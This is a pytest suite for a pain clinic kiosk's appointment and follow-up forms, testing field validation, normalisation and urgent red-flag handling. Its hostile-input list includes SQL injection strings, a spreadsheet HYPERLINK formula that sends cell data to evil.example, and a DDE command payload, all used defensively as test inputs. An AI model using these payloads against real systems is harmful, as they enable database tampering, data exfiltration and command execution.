"""Raw form answers to requests: every rule, the problem a patient is shown, and hostile text."""

from __future__ import annotations

import datetime as dt
import re
import tomllib
import unicodedata
import uuid
from collections.abc import Iterable
from pathlib import Path

import phonenumbers
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kiosk.domain.forms import (
    APPOINTMENT_FIELDS,
    FOLLOW_UP_FIELDS,
    FormContext,
    build_request,
    check_fields,
)
from kiosk.domain.problems import FieldProblem, ProblemCode, RequestInvalid
from kiosk.domain.red_flags import RED_FLAG_QUESTIONS, red_flag_key
from kiosk.domain.requests import (
    AppointmentRequest,
    Contact,
    ContactMethod,
    ContactTime,
    FollowUpRequest,
    NextStep,
    PatientRequest,
    PatientStatus,
    RedFlag,
    ReliefDuration,
    RequestKind,
    Weekday,
    YesNoUnsure,
)

APPOINTMENT = RequestKind.APPOINTMENT
FOLLOW_UP = RequestKind.FOLLOW_UP
TODAY = dt.date(2025, 6, 15)
EPIDURAL = "epidural_steroid_injection"
CONTEXT = FormContext(
    region="US",
    today=TODAY,
    procedures=frozenset({EPIDURAL, "facet_joint_injection"}),
    request_id=uuid.UUID("00000000-0000-4000-8000-000000000001"),
    language="es",
)
FIELDS = {APPOINTMENT: APPOINTMENT_FIELDS, FOLLOW_UP: FOLLOW_UP_FIELDS}
STRINGS = Path(__file__).resolve().parents[2] / "resources" / "strings"


def contact_answers() -> dict[str, object]:
    return {
        "first_name": "Ana",
        "last_name": "Pérez",
        "dob_day": "14",
        "dob_month": "3",
        "dob_year": "1961",
        "phone": "(202) 555-0143",
        "email": "",
        "contact_method": "phone_call",
        "contact_times": frozenset({"evening", "morning"}),
        "consent_contact": True,
        "consent_texts": False,
    }


def appointment_answers(**changes: object) -> dict[str, object]:
    return {
        "patient_status": "new",
        **contact_answers(),
        "reason": "other",
        "reason_other": "Sharp ache in my hip",
        "preferred_days": frozenset({"thursday", "monday"}),
        **changes,
    }


def follow_up_answers(**changes: object) -> dict[str, object]:
    return {
        "procedure": EPIDURAL,
        "procedure_day": "2",
        "procedure_month": "6",
        "procedure_year": "2025",
        **contact_answers(),
        "pain_before": 8,
        "pain_now": 3,
        "peg_enjoyment": 4,
        "peg_activity": 5,
        "relief_percent": 60,
        "relief_duration": "days",
        "relief_within_hours": "yes",
        **{red_flag_key(flag): "no" for flag in RED_FLAG_QUESTIONS},
        "concerns": "",
        "next_steps": frozenset({"question", "follow_up_visit"}),
        **changes,
    }


def valid_answers(kind: RequestKind, **changes: object) -> dict[str, object]:
    return appointment_answers(**changes) if kind is APPOINTMENT else follow_up_answers(**changes)


def without(answers: dict[str, object], *keys: str) -> dict[str, object]:
    return {key: value for key, value in answers.items() if key not in keys}


def problems(kind: RequestKind, answers: dict[str, object], fields: Iterable[str] | None = None) -> list[FieldProblem]:
    return check_fields(kind, answers, FIELDS[kind] if fields is None else fields, CONTEXT)


def shown(kind: RequestKind, answers: dict[str, object]) -> list[FieldProblem]:
    """What the patient sees on Submit: check_fields and build_request must agree."""
    with pytest.raises(RequestInvalid) as raised:
        build_request(kind, answers, CONTEXT)
    assert list(raised.value.problems) == problems(kind, answers)
    return list(raised.value.problems)


def answers_of(request: PatientRequest) -> dict[str, object]:
    """The answers a patient would give to get this request again."""
    contact = request.contact
    answers: dict[str, object] = {
        "first_name": contact.first_name,
        "last_name": contact.last_name,
        **date_answers("dob", contact.date_of_birth),
        "phone": contact.phone_e164,
        "email": contact.email or "",
        "contact_method": contact.method.value,
        "contact_times": frozenset(time.value for time in contact.times),
        "consent_contact": contact.consent_to_contact,
        "consent_texts": contact.consent_to_texts,
    }
    if isinstance(request, AppointmentRequest):
        return answers | {
            "patient_status": request.patient_status.value,
            "reason": request.reason,
            "reason_other": request.reason_other,
            "preferred_days": frozenset(day.value for day in request.preferred_days),
        }
    return answers | {
        "procedure": request.procedure,
        **date_answers("procedure", request.procedure_date),
        "pain_before": request.pain_before,
        "pain_now": request.pain_now,
        "peg_enjoyment": request.peg_enjoyment,
        "peg_activity": request.peg_activity,
        "relief_percent": request.relief_percent,
        "relief_duration": request.relief_duration.value,
        "relief_within_hours": request.relief_within_hours.value,
        **{red_flag_key(flag): "yes" if flag in request.red_flags else "no" for flag in RED_FLAG_QUESTIONS},
        "concerns": request.concerns,
        "next_steps": frozenset(step.value for step in request.next_steps),
    }


def date_answers(prefix: str, day: dt.date) -> dict[str, object]:
    return {
        f"{prefix}_day": str(day.day),
        f"{prefix}_month": str(day.month),
        f"{prefix}_year": f"{day.year:04d}",
    }


def assert_reads_back_equal(request: PatientRequest) -> None:
    assert build_request(request.kind, answers_of(request), CONTEXT) == request


# -- whole requests ---------------------------------------------------------------------------------


def test_appointment_answers_become_an_appointment_request() -> None:
    request = build_request(APPOINTMENT, appointment_answers(), CONTEXT)
    assert request == AppointmentRequest(
        request_id=CONTEXT.request_id,
        language="es",
        contact=Contact(
            first_name="Ana",
            last_name="Pérez",
            date_of_birth=dt.date(1961, 3, 14),
            phone_e164="+12025550143",
            email=None,
            method=ContactMethod.PHONE_CALL,
            times=(ContactTime.MORNING, ContactTime.EVENING),  # the form's order, whatever was tapped first
            consent_to_contact=True,
            consent_to_texts=False,
        ),
        patient_status=PatientStatus.NEW,
        reason="other",
        reason_other="Sharp ache in my hip",
        preferred_days=(Weekday.MONDAY, Weekday.THURSDAY),
    )
    assert not request.urgent
    assert_reads_back_equal(request)


def test_follow_up_answers_become_a_follow_up_request() -> None:
    answers = follow_up_answers(concerns="Itchy site.\n\nWhen can I swim?", red_flag_fever="yes")
    request = build_request(FOLLOW_UP, answers, CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.procedure == EPIDURAL
    assert request.procedure_date == dt.date(2025, 6, 2)
    assert (request.pain_before, request.pain_now, request.relief_percent) == (8, 3, 60)
    assert request.relief_duration is ReliefDuration.DAYS
    assert request.relief_within_hours is YesNoUnsure.YES
    assert request.red_flags == {RedFlag.FEVER}
    assert request.urgent
    assert request.concerns == "Itchy site.\n\nWhen can I swim?"
    assert request.next_steps == (NextStep.FOLLOW_UP_VISIT, NextStep.QUESTION)
    assert (request.request_id, request.language) == (CONTEXT.request_id, "es")
    assert_reads_back_equal(request)


def test_a_follow_up_without_red_flags_is_not_urgent() -> None:
    assert not build_request(FOLLOW_UP, follow_up_answers(), CONTEXT).urgent


@pytest.mark.parametrize("kind", [APPOINTMENT, FOLLOW_UP])
def test_building_a_request_reads_each_answer_once(kind: RequestKind, monkeypatch: pytest.MonkeyPatch) -> None:
    # The values the checks read are the ones built into the request: parsing a phone number is the dearest
    # read, and Submit waits for it (issue 8), so checking and building must not parse it twice.
    parsed: list[str] = []
    parse = phonenumbers.parse

    def counted_parse(typed: str, region: str | None) -> phonenumbers.PhoneNumber:
        parsed.append(typed)
        return parse(typed, region)

    monkeypatch.setattr(phonenumbers, "parse", counted_parse)

    request = build_request(kind, valid_answers(kind), CONTEXT)

    assert parsed == ["(202) 555-0143"]
    assert request.contact.phone_e164 == "+12025550143"


@pytest.mark.parametrize("kind", [APPOINTMENT, FOLLOW_UP])
def test_build_request_reports_every_problem_in_form_order(kind: RequestKind) -> None:
    found = shown(kind, {})
    assert [problem.field for problem in found] == [
        field for field in FIELDS[kind] if field in {p.field for p in found}
    ]
    assert len(found) > 5


def test_request_invalid_names_fields_and_codes_but_not_what_was_typed() -> None:
    answers = appointment_answers(first_name="Zelphine99", phone="613 555 01434 99", email="zel@@example.org")
    with pytest.raises(RequestInvalid) as raised:
        build_request(APPOINTMENT, answers, CONTEXT)
    message = f"{raised.value} {raised.value!r} {raised.value.args}"
    for typed in ("Zelphine", "613", "zel@"):
        assert typed not in message
    assert "first_name: name_invalid" in str(raised.value)


# -- one step at a time -----------------------------------------------------------------------------


def test_check_fields_looks_only_at_the_named_answers() -> None:
    assert problems(APPOINTMENT, {}, ["first_name"]) == [FieldProblem("first_name", "required")]
    assert problems(APPOINTMENT, {}, iter(["consent_texts"])) == []
    assert problems(APPOINTMENT, {}, []) == []


def test_check_fields_ignores_keys_that_are_not_questions_of_the_form() -> None:
    assert problems(APPOINTMENT, appointment_answers(), ["pain_now", "no_such_question"]) == []


def test_check_fields_gives_at_most_one_problem_per_field() -> None:
    answers = appointment_answers(contact_method="email", email="not an address")
    assert problems(APPOINTMENT, answers) == [FieldProblem("email", "email_invalid")]


@pytest.mark.parametrize("kind", [APPOINTMENT, FOLLOW_UP])
def test_every_field_is_listed_once_in_form_order(kind: RequestKind) -> None:
    fields = FIELDS[kind]
    assert len(set(fields)) == len(fields)
    assert set(valid_answers(kind)) == set(fields)


def test_follow_up_asks_red_flags_in_display_order() -> None:
    asked = [field for field in FOLLOW_UP_FIELDS if field.startswith("red_flag_")]
    assert asked == [red_flag_key(flag) for flag in RED_FLAG_QUESTIONS]


@pytest.mark.parametrize("language", sorted(STRINGS.glob("*.toml")), ids=lambda path: path.stem)
def test_every_problem_code_has_a_sentence(language: Path) -> None:
    errors = tomllib.loads(language.read_text(encoding="utf-8"))["errors"]
    assert {code.value for code in ProblemCode} <= set(errors)


# -- names ------------------------------------------------------------------------------------------

NAMES = ("first_name", "last_name")


@pytest.mark.parametrize("field", NAMES)
@pytest.mark.parametrize("typed", [None, "", "   ", "\u200b\u200d", "\t\n", "\u3164"])
def test_a_name_is_required(field: str, typed: str | None) -> None:
    answers = appointment_answers() if typed is None else appointment_answers(**{field: typed})
    if typed is None:
        del answers[field]
    assert shown(APPOINTMENT, answers) == [FieldProblem(field, "required")]


@pytest.mark.parametrize("field", NAMES)
def test_a_name_has_at_most_80_characters(field: str) -> None:
    assert shown(APPOINTMENT, appointment_answers(**{field: "A" * 81})) == [FieldProblem(field, "too_long")]
    # Counted after cleaning: invisible characters do not count.
    request = build_request(APPOINTMENT, appointment_answers(**{field: " " + "A" * 80 + "\u200b "}), CONTEXT)
    assert getattr(request.contact, field) == "A" * 80


@pytest.mark.parametrize("field", NAMES)
@pytest.mark.parametrize("typed", ["12345", "!!!", "- . '", "J0hn", "Ana@example.org", "=HYPERLINK(1)", "🙂", "\u2800"])
def test_a_name_is_letters(field: str, typed: str) -> None:
    assert shown(APPOINTMENT, appointment_answers(**{field: typed})) == [FieldProblem(field, "name_invalid")]


@pytest.mark.parametrize(
    "typed",
    [
        "José",
        "O'Brien",
        "O\u2019Brien",  # a typographic apostrophe
        "Jean-Luc",
        "St. John",
        "Nguyễn",
        "李",
        "محمد",
        "अनिल",
        "Paral·lel",
        "ジョン・スミス",
    ],
)
def test_names_of_any_script_are_accepted(typed: str) -> None:
    request = build_request(APPOINTMENT, appointment_answers(first_name=typed), CONTEXT)
    assert request.contact.first_name == typed


def test_a_name_is_stored_cleaned() -> None:
    request = build_request(APPOINTMENT, appointment_answers(first_name=" Ana \t Mari\u0301a\u202e "), CONTEXT)
    assert request.contact.first_name == "Ana María"


# -- dates ------------------------------------------------------------------------------------------

DATES = {
    "dob": (APPOINTMENT, "dob_day"),
    "procedure": (FOLLOW_UP, "procedure_day"),
}


def with_date(prefix: str, day: str, month: str, year: str) -> tuple[RequestKind, dict[str, object]]:
    kind, _ = DATES[prefix]
    return kind, valid_answers(kind, **{f"{prefix}_day": day, f"{prefix}_month": month, f"{prefix}_year": year})


@pytest.mark.parametrize("prefix", DATES)
@pytest.mark.parametrize("part", ["day", "month", "year"])
def test_a_date_needs_day_month_and_year(prefix: str, part: str) -> None:
    kind, field = DATES[prefix]
    answers = valid_answers(kind)
    assert shown(kind, without(answers, f"{prefix}_{part}")) == [FieldProblem(field, "required")]
    assert shown(kind, answers | {f"{prefix}_{part}": " "}) == [FieldProblem(field, "required")]


@pytest.mark.parametrize("prefix", DATES)
@pytest.mark.parametrize(
    ("day", "month", "year"),
    [
        ("30", "2", "2024"),  # February 30
        ("29", "2", "2023"),  # not a leap year
        ("31", "4", "2024"),
        ("1", "13", "2024"),
        ("0", "1", "2024"),
        ("1", "1", "24"),  # a year has four digits
        ("1", "1", "02024"),
        ("001", "1", "2024"),
        ("1", "1", "0000"),
        ("1a", "1", "2024"),
        ("-1", "1", "2024"),
        ("1.5", "1", "2024"),
    ],
)
def test_a_date_must_be_real(prefix: str, day: str, month: str, year: str) -> None:
    _, field = DATES[prefix]
    assert shown(*with_date(prefix, day, month, year)) == [FieldProblem(field, "date_invalid")]


def test_a_date_may_be_typed_with_leading_zeros_and_spaces() -> None:
    request = build_request(*with_date("dob", " 09 ", "02", "1960"), CONTEXT)
    assert request.contact.date_of_birth == dt.date(1960, 2, 9)


def test_february_29_of_a_leap_year_is_a_date() -> None:
    request = build_request(*with_date("dob", "29", "2", "1960"), CONTEXT)
    assert request.contact.date_of_birth == dt.date(1960, 2, 29)


def test_date_of_birth_is_not_in_the_future() -> None:
    assert shown(*with_date("dob", "16", "6", "2025")) == [FieldProblem("dob_day", "dob_future")]
    assert build_request(*with_date("dob", "15", "6", "2025"), CONTEXT).contact.date_of_birth == TODAY


def test_age_is_at_most_120() -> None:
    assert shown(*with_date("dob", "15", "6", "1904")) == [FieldProblem("dob_day", "dob_too_old")]  # 121 today
    accepted = build_request(*with_date("dob", "16", "6", "1904"), CONTEXT)  # 121 tomorrow
    assert accepted.contact.date_of_birth == dt.date(1904, 6, 16)


def test_procedure_date_is_not_in_the_future() -> None:
    assert shown(*with_date("procedure", "16", "6", "2025")) == [FieldProblem("procedure_day", "procedure_date_future")]
    request = build_request(*with_date("procedure", "15", "6", "2025"), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.procedure_date == TODAY


def test_procedure_date_is_at_most_two_years_ago() -> None:
    assert shown(*with_date("procedure", "14", "6", "2023")) == [
        FieldProblem("procedure_day", "procedure_date_too_old")
    ]
    request = build_request(*with_date("procedure", "15", "6", "2023"), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.procedure_date == dt.date(2023, 6, 15)


def test_a_date_is_checked_once_all_its_parts_are() -> None:
    answers = appointment_answers(dob_day="30", dob_month="2")
    assert problems(APPOINTMENT, answers, ["dob_day", "dob_month"]) == []
    assert problems(APPOINTMENT, answers, ["dob_day", "dob_month", "dob_year"]) == [
        FieldProblem("dob_day", "date_invalid")
    ]


# -- phone and email --------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", [None, "", "  \u200b"])
def test_a_phone_number_is_required(typed: str | None) -> None:
    answers = without(appointment_answers(), "phone") if typed is None else appointment_answers(phone=typed)
    assert shown(APPOINTMENT, answers) == [FieldProblem("phone", "required")]


@pytest.mark.parametrize(
    "typed",
    ["12345", "555-0143", "call me", "+1 555", "202 555 0143 " * 10, "+999 1234 5678", "=1+2025550143"],
)
def test_a_phone_number_must_be_valid(typed: str) -> None:
    assert shown(APPOINTMENT, appointment_answers(phone=typed)) == [FieldProblem("phone", "phone_invalid")]


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("(202) 555-0143", "+12025550143"),
        ("202.555.0143", "+12025550143"),
        ("+1 202 555 0143", "+12025550143"),
        ("+44 20 7946 0958", "+442079460958"),  # a number from abroad, with its country code
        ("\uff12\uff10\uff12\uff15\uff15\uff15\uff10\uff11\uff14\uff13", "+12025550143"),  # full-width digits
    ],
)
def test_a_phone_number_is_stored_as_e164(typed: str, stored: str) -> None:
    assert build_request(APPOINTMENT, appointment_answers(phone=typed), CONTEXT).contact.phone_e164 == stored


def test_a_phone_number_without_country_code_belongs_to_the_clinics_region() -> None:
    context = FormContext("GB", TODAY, CONTEXT.procedures, CONTEXT.request_id, "en")
    request = build_request(APPOINTMENT, appointment_answers(phone="020 7946 0958"), context)
    assert request.contact.phone_e164 == "+442079460958"


@pytest.mark.parametrize("answers", [appointment_answers(email=""), without(appointment_answers(), "email")])
def test_an_email_address_is_optional(answers: dict[str, object]) -> None:
    assert build_request(APPOINTMENT, answers, CONTEXT).contact.email is None


@pytest.mark.parametrize(
    "typed",
    ["ana", "ana@", "@example.org", "ana@example", "ana @example.org", "ana@@example.org", "a@b@c.org"],
)
def test_an_email_address_must_be_valid(typed: str) -> None:
    assert shown(APPOINTMENT, appointment_answers(email=typed)) == [FieldProblem("email", "email_invalid")]


def test_an_email_address_is_stored_normalised() -> None:
    request = build_request(APPOINTMENT, appointment_answers(email=" Ana.Perez@Example.ORG\u200b "), CONTEXT)
    assert request.contact.email == "Ana.Perez@example.org"


def test_an_email_address_has_at_most_254_characters() -> None:
    typed = "ana@" + ".".join(["a" * 63] * 4) + ".org"  # each label within DNS limits, the whole too long
    assert len(typed) == 263
    assert shown(APPOINTMENT, appointment_answers(email=typed)) == [FieldProblem("email", "too_long")]


# -- how to reach the patient -----------------------------------------------------------------------


@pytest.mark.parametrize("typed", [None, "", "carrier_pigeon", "Phone_Call"])
def test_a_contact_method_must_be_chosen(typed: str | None) -> None:
    answers = appointment_answers(contact_method=typed) if typed is not None else appointment_answers()
    if typed is None:
        del answers["contact_method"]
    assert shown(APPOINTMENT, answers) == [FieldProblem("contact_method", "choice_required")]


@pytest.mark.parametrize("consent_texts", [False, None])
def test_text_messages_need_the_texts_opt_in(consent_texts: bool | None) -> None:
    answers = appointment_answers(contact_method="text_message", consent_texts=consent_texts)
    if consent_texts is None:
        del answers["consent_texts"]
    assert shown(APPOINTMENT, answers) == [FieldProblem("contact_method", "texts_need_opt_in")]
    answers["consent_texts"] = True
    assert build_request(APPOINTMENT, answers, CONTEXT).contact.method is ContactMethod.TEXT_MESSAGE


def test_the_texts_opt_in_is_checked_once_both_answers_are() -> None:
    answers = appointment_answers(contact_method="text_message", consent_texts=False)
    contact_step = ["phone", "email", "contact_method"]
    assert problems(APPOINTMENT, answers, contact_step) == []
    assert problems(APPOINTMENT, answers, [*contact_step, "consent_texts"]) == [
        FieldProblem("contact_method", "texts_need_opt_in")
    ]


def test_email_contact_needs_an_email_address() -> None:
    answers = appointment_answers(contact_method="email", email="  ")
    assert shown(APPOINTMENT, answers) == [FieldProblem("email", "email_needed")]
    assert problems(APPOINTMENT, answers, ["email"]) == []
    answers["email"] = "ana@example.org"
    assert build_request(APPOINTMENT, answers, CONTEXT).contact.email == "ana@example.org"


def test_contact_times_may_be_empty_for_any_time() -> None:
    for answers in (
        appointment_answers(contact_times=frozenset()),
        without(appointment_answers(), "contact_times"),
    ):
        assert build_request(APPOINTMENT, answers, CONTEXT).contact.times == ()


@pytest.mark.parametrize("chosen", [frozenset({"midnight"}), frozenset({"morning", ""}), "morning", 3])
def test_contact_times_must_be_known_choices(chosen: object) -> None:
    answers = appointment_answers(contact_times=chosen)
    assert shown(APPOINTMENT, answers) == [FieldProblem("contact_times", "choice_required")]


@pytest.mark.parametrize("given_consent", [False, None, "yes", 1])
def test_consent_to_contact_is_required(given_consent: object) -> None:
    answers = appointment_answers(consent_contact=given_consent)
    if given_consent is None:
        del answers["consent_contact"]
    assert shown(APPOINTMENT, answers) == [FieldProblem("consent_contact", "consent_required")]


# -- appointment ------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["patient_status", "reason"])
@pytest.mark.parametrize("typed", [None, "", "vip", 1])
def test_appointment_choices_must_be_made(field: str, typed: object) -> None:
    answers = without(appointment_answers(), field) if typed is None else appointment_answers(**{field: typed})
    assert shown(APPOINTMENT, answers) == [FieldProblem(field, "choice_required")]


def test_a_reason_may_be_a_procedure_page() -> None:
    request = build_request(APPOINTMENT, appointment_answers(reason=EPIDURAL), CONTEXT)
    assert isinstance(request, AppointmentRequest)
    assert (request.reason, request.reason_other) == (EPIDURAL, "")  # words for "other" are not kept
    assert_reads_back_equal(request)


@pytest.mark.parametrize("typed", [None, "", " \n\u200b "])
def test_reason_other_needs_the_patients_words(typed: str | None) -> None:
    answers = (
        without(appointment_answers(), "reason_other") if typed is None else appointment_answers(reason_other=typed)
    )
    assert shown(APPOINTMENT, answers) == [FieldProblem("reason_other", "reason_other_required")]


def test_reason_other_is_checked_once_the_reason_is() -> None:
    answers = appointment_answers(reason_other="")
    assert problems(APPOINTMENT, answers, ["reason_other"]) == []
    assert problems(APPOINTMENT, answers | {"reason": "nonsense"}, ["reason", "reason_other"]) == [
        FieldProblem("reason", "choice_required")
    ]


def test_reason_other_has_at_most_500_characters_on_one_line() -> None:
    assert shown(APPOINTMENT, appointment_answers(reason_other="a" * 501)) == [FieldProblem("reason_other", "too_long")]
    request = build_request(APPOINTMENT, appointment_answers(reason_other="hip\n\nache " + "a" * 491), CONTEXT)
    assert isinstance(request, AppointmentRequest)
    assert request.reason_other == "hip ache " + "a" * 491


@pytest.mark.parametrize("chosen", [frozenset({"sunday"}), ["monday", None], "monday"])
def test_preferred_days_must_be_known_choices(chosen: object) -> None:
    assert shown(APPOINTMENT, appointment_answers(preferred_days=chosen)) == [
        FieldProblem("preferred_days", "choice_required")
    ]


def test_preferred_days_may_be_empty_for_any_day() -> None:
    request = build_request(APPOINTMENT, appointment_answers(preferred_days=frozenset()), CONTEXT)
    assert isinstance(request, AppointmentRequest)
    assert request.preferred_days == ()


# -- follow-up --------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["procedure", "relief_duration", "relief_within_hours"])
@pytest.mark.parametrize("typed", [None, "", "other", "nope"])
def test_follow_up_choices_must_be_made(field: str, typed: str | None) -> None:
    answers = without(follow_up_answers(), field) if typed is None else follow_up_answers(**{field: typed})
    assert shown(FOLLOW_UP, answers) == [FieldProblem(field, "choice_required")]


@pytest.mark.parametrize("field", ["pain_before", "pain_now"])
@pytest.mark.parametrize("value", [None, -1, 11, True, "5", 5.0])
def test_pain_is_a_whole_number_from_0_to_10(field: str, value: object) -> None:
    answers = without(follow_up_answers(), field) if value is None else follow_up_answers(**{field: value})
    assert shown(FOLLOW_UP, answers) == [FieldProblem(field, "scale_invalid")]
    answers[field] = None
    assert shown(FOLLOW_UP, answers) == [FieldProblem(field, "scale_invalid")]


@pytest.mark.parametrize("value", [0, 10])
def test_pain_scale_ends_are_answers(value: int) -> None:
    request = build_request(FOLLOW_UP, follow_up_answers(pain_before=value, pain_now=value), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert (request.pain_before, request.pain_now) == (value, value)


@pytest.mark.parametrize("value", [None, -10, 15, 110, 99, False, "50"])
def test_relief_is_a_percentage_in_tens(value: object) -> None:
    assert shown(FOLLOW_UP, follow_up_answers(relief_percent=value)) == [
        FieldProblem("relief_percent", "scale_invalid")
    ]


@pytest.mark.parametrize("value", [0, 50, 100])
def test_relief_percentages_in_tens_are_answers(value: int) -> None:
    request = build_request(FOLLOW_UP, follow_up_answers(relief_percent=value), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.relief_percent == value


@pytest.mark.parametrize("flag", RED_FLAG_QUESTIONS)
@pytest.mark.parametrize("typed", [None, "", "not_sure", "Yes", True])
def test_every_red_flag_question_must_be_answered_yes_or_no(flag: RedFlag, typed: object) -> None:
    key = red_flag_key(flag)
    answers = without(follow_up_answers(), key) if typed is None else follow_up_answers(**{key: typed})
    # The signs are one checklist: its one problem is shown on its first sign, whichever sign is unanswered.
    first = red_flag_key(RED_FLAG_QUESTIONS[0])
    assert shown(FOLLOW_UP, answers) == [FieldProblem(first, "red_flag_unanswered")]


@pytest.mark.parametrize("flag", RED_FLAG_QUESTIONS)
def test_a_yes_to_any_red_flag_makes_the_follow_up_urgent(flag: RedFlag) -> None:
    request = build_request(FOLLOW_UP, follow_up_answers(**{red_flag_key(flag): "yes"}), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.red_flags == {flag}
    assert request.urgent


@pytest.mark.parametrize("chosen", [None, frozenset()])
def test_at_least_one_next_step_is_chosen(chosen: frozenset[str] | None) -> None:
    answers = without(follow_up_answers(), "next_steps") if chosen is None else follow_up_answers(next_steps=chosen)
    assert shown(FOLLOW_UP, answers) == [FieldProblem("next_steps", "next_step_required")]


def test_next_steps_must_be_known_choices() -> None:
    answers = follow_up_answers(next_steps=frozenset({"question", "surgery"}))
    assert shown(FOLLOW_UP, answers) == [FieldProblem("next_steps", "choice_required")]


def test_concerns_are_optional() -> None:
    request = build_request(FOLLOW_UP, without(follow_up_answers(), "concerns"), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.concerns == ""


def test_concerns_have_at_most_2000_characters_and_keep_their_lines() -> None:
    assert shown(FOLLOW_UP, follow_up_answers(concerns="a" * 2001)) == [FieldProblem("concerns", "too_long")]
    typed = "First.\r\n\r\n\r\nSecond\u202e.\n" + "a" * 1984
    request = build_request(FOLLOW_UP, follow_up_answers(concerns=typed), CONTEXT)
    assert isinstance(request, FollowUpRequest)
    assert request.concerns == "First.\n\nSecond.\n" + "a" * 1984
    assert len(request.concerns) == 2000


# -- hostile text at every free-text field ----------------------------------------------------------

NASTY = (
    "\u202e",  # right-to-left override
    "\u2066",
    "\u2069",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\x00",
    "\x1b[2J",
    "\ud800",  # a lone surrogate
    "\r\n",
    "\r",
    "\t",
    "\u2028",
    "e\u0301",
    "'; DROP TABLE patient_requests; --",
    "' OR '1'='1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "Ana",
    "ana@example.org",
    "+1 202 555 0143",
    "2",
    "1990",
)
ANY_TEXT = st.text(st.characters(), max_size=40)  # every category, lone surrogates included
PIECES = st.one_of(ANY_TEXT, st.sampled_from(NASTY))
INVISIBLE = st.sampled_from(["\u202e", "\u2066", "\u200b", "\u200d", "\ufeff", "\x00", "\t", "\u00a0", "\u0301"])
# Mostly letters, so the accepting path is tried as often as the refusing one.
NAME_LIKE = st.lists(st.one_of(st.text(st.characters(categories=["L", "M"]), min_size=1), INVISIBLE), max_size=8)
HOSTILE = st.one_of(
    st.lists(PIECES, max_size=6).map("".join),
    NAME_LIKE.map("".join),
    # Up to 100 kB: a piece repeated, as if something were pasted or a key held down.
    st.tuples(PIECES, st.integers(1, 100_000)).map(lambda pair: ((pair[0] or "x") * pair[1])[: pair[1]]),
    st.emails(),
)
FREE_TEXT = [
    (APPOINTMENT, "first_name"),
    (APPOINTMENT, "last_name"),
    (APPOINTMENT, "phone"),
    (APPOINTMENT, "email"),
    (APPOINTMENT, "reason_other"),
    (APPOINTMENT, "dob_day"),
    (APPOINTMENT, "dob_year"),
    (FOLLOW_UP, "procedure_month"),
    (FOLLOW_UP, "concerns"),
]
LIMITS = {"first_name": 80, "last_name": 80, "email": 254, "reason_other": 500, "concerns": 2000}
E164 = re.compile(r"\+[1-9][0-9]{6,14}")


def stored_text(request: PatientRequest, field: str) -> str:
    if field in ("first_name", "last_name", "email"):
        return getattr(request.contact, field) or ""
    if field == "phone":
        return request.contact.phone_e164
    return getattr(request, field, "")


@pytest.mark.parametrize(("kind", "field"), FREE_TEXT, ids=[field for _, field in FREE_TEXT])
@settings(max_examples=40, deadline=None)
@given(typed=HOSTILE)
def test_any_text_is_refused_cleanly_or_stored_clean(kind: RequestKind, field: str, typed: str) -> None:
    try:
        request = build_request(kind, valid_answers(kind, **{field: typed}), CONTEXT)
    except RequestInvalid as invalid:
        assert {problem.field for problem in invalid.problems} <= set(FIELDS[kind])
        return
    text = stored_text(request, field)
    assert unicodedata.is_normalized("NFC", text)
    assert "\n" not in text or field == "concerns"
    assert not {unicodedata.category(char) for char in text.replace("\n", "")} & {
        "Cc",
        "Cf",
        "Cs",
        "Co",
        "Cn",
    }
    assert len(text) <= LIMITS.get(field, 254)
    if field == "phone":
        assert E164.fullmatch(text)
    assert_reads_back_equal(request)


ANY_VALUE = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(),
    HOSTILE,
    st.frozensets(st.one_of(st.text(max_size=20), st.sampled_from(["morning", "monday", "question"]))),
    st.lists(st.one_of(st.none(), st.integers(), st.lists(st.text()))),
)


@pytest.mark.parametrize("kind", [APPOINTMENT, FOLLOW_UP])
@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_answers_of_any_type_give_problems_not_crashes(kind: RequestKind, data: st.DataObject) -> None:
    changes = data.draw(st.dictionaries(st.sampled_from(FIELDS[kind]), ANY_VALUE, max_size=6))
    answers = valid_answers(kind, **changes)
    found = check_fields(kind, answers, FIELDS[kind], CONTEXT)
    assert len({problem.field for problem in found}) == len(found)
    assert {problem.code for problem in found} <= {code.value for code in ProblemCode}
    try:
        request = build_request(kind, answers, CONTEXT)
    except RequestInvalid as invalid:
        assert list(invalid.problems) == found
    else:
        assert found == []
        assert_reads_back_equal(request)
